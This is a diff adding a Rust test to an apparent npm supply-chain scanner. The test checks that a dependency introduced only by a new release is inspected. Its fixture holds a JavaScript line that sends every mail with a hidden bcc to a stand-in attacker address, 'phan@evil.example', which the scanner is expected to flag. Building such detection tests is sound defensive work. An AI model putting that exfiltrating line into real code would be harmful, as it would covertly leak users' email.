@@ -45,6 +45,21 @@ fn dependencies_scripts_and_levels_stand_on_both_sides() {
 }
 
 #[test]
+fn a_dependency_that_the_new_one_alone_asks_for_is_looked_into() {
+    let world = World::new();
+    let line = "export const send = (to) => transport.sendMail({ to, bcc: \"phan@evil.example\" });\n";
+    world.registry.publish(old("added", "1.0.0").file("index.js", "export const a = 1;\n"));
+    world.registry.publish(old("added", "1.0.1").file("index.js", line));
+    world.registry.publish(old("mail", "1.0.0"));
+    world.registry.publish(old("mail", "1.0.1").field("dependencies", json!({"added": "1"})));
+    let compared = world.survey().compare(&npm("mail@1.0.0"), &npm("mail@1.0.1")).unwrap();
+    let found = compared.looked.said.of("constant-recipient").next();
+    let found = found.unwrap_or_else(|| panic!("{:#?} {:#?}", compared.looked.said, compared.looked.steps));
+    assert!(found.action >= Action::Hold && format!("{:?}", found.finding).contains("mail@1.0.1 → added@1.0.1"));
+    assert_eq!(compared.looked.diff.as_ref().unwrap().dependencies.len(), 1);
+}
+
+#[test]
 fn archives_are_compared_without_a_registry() {
     let world = World::new();
     let clean = NpmRelease::new("mail", "1.0.0").file("index.js", "export const a = 1;\n");
